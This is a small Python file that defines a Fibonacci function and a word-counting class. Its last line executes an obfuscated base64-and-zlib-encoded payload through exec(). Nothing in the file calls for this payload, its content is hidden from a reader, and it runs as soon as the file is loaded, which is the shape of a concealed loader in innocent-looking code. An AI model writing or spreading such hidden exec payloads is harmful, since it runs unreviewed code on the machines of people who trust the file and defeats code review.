#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import zlib, base64
exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUcgoKSmw0tdPNtJLrUjMLchJ1csvStfP1CuoVKhRKM5Q0gQAgGUUiw==")))
